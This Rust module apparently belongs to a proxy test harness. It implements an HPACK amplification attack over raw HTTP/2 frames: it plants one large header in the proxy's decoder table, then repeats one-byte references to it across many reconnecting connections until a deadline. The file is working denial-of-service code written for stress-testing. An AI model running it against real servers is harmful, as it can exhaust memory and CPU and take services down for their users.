//! Attack (5), HPACK amplification, on raw HTTP/2 frames: no client library
//! lets a caller choose what goes into the HPACK table and how it is named.

use std::net::SocketAddr;

use bytes::{BufMut, BytesMut};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{timeout_at, Instant};

use super::{join, Seen};

/// (5) HPACK amplification on raw HTTP/2 frames: the first HEADERS frame adds
/// one header of `value_bytes` to the proxy's decoder table, and every request
/// then names it `repeats` times with one byte each, so a frame of a few dozen
/// bytes decodes to `repeats * value_bytes`. GETs to `path` on `connections`
/// connections until `deadline`.
pub async fn hpack_amplification(
    addr: SocketAddr,
    path: &str,
    connections: usize,
    value_bytes: usize,
    repeats: usize,
    deadline: Instant,
) -> Seen {
    let mut tasks = Vec::new();
    for _ in 0..connections {
        let path = path.to_string();
        tasks.push(tokio::spawn(async move {
            let mut seen = Seen::default();
            // A connection the proxy closes is replaced, until the deadline.
            while Instant::now() < deadline {
                hpack_connection(addr, &path, value_bytes, repeats, deadline, &mut seen).await;
            }
            seen
        }));
    }
    join(tasks).await
}

/// One connection of [`hpack_amplification`], until the proxy closes it or the deadline.
async fn hpack_connection(
    addr: SocketAddr,
    path: &str,
    value_bytes: usize,
    repeats: usize,
    deadline: Instant,
    seen: &mut Seen,
) {
    let Ok(Ok(stream)) = timeout_at(deadline, super::attacker_connect(addr)).await else {
        seen.count("connect failed");
        return;
    };
    seen.connections += 1;
    let (mut read, mut write) = stream.into_split();
    // Read and drop whatever comes back, so the proxy never blocks on us.
    let reader = tokio::spawn(async move {
        let mut buf = vec![0u8; 64 * 1024];
        while let Ok(n) = read.read(&mut buf).await {
            if n == 0 {
                break;
            }
        }
    });
    let mut out = BytesMut::new();
    out.put_slice(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
    // SETTINGS: a large initial window; then the ack of the proxy's
    // SETTINGS, and the connection window opened wide.
    frame(&mut out, 0x4, 0, 0, &[0x00, 0x04, 0x7f, 0xff, 0xff, 0xff]);
    frame(&mut out, 0x4, 0x1, 0, &[]);
    frame(&mut out, 0x8, 0, 0, &0x7fff_0000u32.to_be_bytes());
    let mut stream_id = 1u32;
    let mut first = true;
    while Instant::now() < deadline && stream_id < (1 << 30) {
        let mut block = BytesMut::new();
        block.put_u8(0x82); // :method GET
        block.put_u8(0x86); // :scheme http
        literal(&mut block, 0x04, path.as_bytes()); // :path
        literal(&mut block, 0x01, b"bench"); // :authority
        let mut refs = repeats;
        if first {
            // Literal with incremental indexing, new name: dynamic index 62.
            block.put_u8(0x40);
            string(&mut block, b"x-amplified");
            string(&mut block, &vec![b'a'; value_bytes]);
            refs = repeats.saturating_sub(1);
            first = false;
        }
        for _ in 0..refs {
            block.put_u8(0x80 | 62);
        }
        // END_STREAM | END_HEADERS
        frame(&mut out, 0x1, 0x5, stream_id, &block);
        stream_id += 2;
        let write = timeout_at(deadline, write.write_all(&out)).await;
        out.clear();
        match write {
            Ok(Ok(())) => seen.requests += 1,
            Ok(Err(e)) => {
                seen.count(format!("write: {}", e.kind()));
                break;
            }
            Err(_) => break,
        }
        // A breath per batch, so the attack is a stream, not one burst.
        if stream_id % 64 == 1 {
            tokio::task::yield_now().await;
        }
    }
    reader.abort();
}

fn frame(out: &mut BytesMut, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = payload.len() as u32;
    out.put_slice(&len.to_be_bytes()[1..]);
    out.put_u8(kind);
    out.put_u8(flags);
    out.put_u32(stream);
    out.put_slice(payload);
}

/// An HPACK integer with an `n`-bit prefix whose other bits are `high`.
fn integer(out: &mut BytesMut, high: u8, n: u32, mut value: usize) {
    let max = (1usize << n) - 1;
    if value < max {
        out.put_u8(high | value as u8);
        return;
    }
    out.put_u8(high | max as u8);
    value -= max;
    while value >= 128 {
        out.put_u8((value % 128) as u8 | 0x80);
        value /= 128;
    }
    out.put_u8(value as u8);
}

fn string(out: &mut BytesMut, bytes: &[u8]) {
    integer(out, 0, 7, bytes.len());
    out.put_slice(bytes);
}

/// A literal without indexing whose name is static-table entry `name`.
fn literal(out: &mut BytesMut, name: usize, value: &[u8]) {
    integer(out, 0, 4, name);
    string(out, value);
}
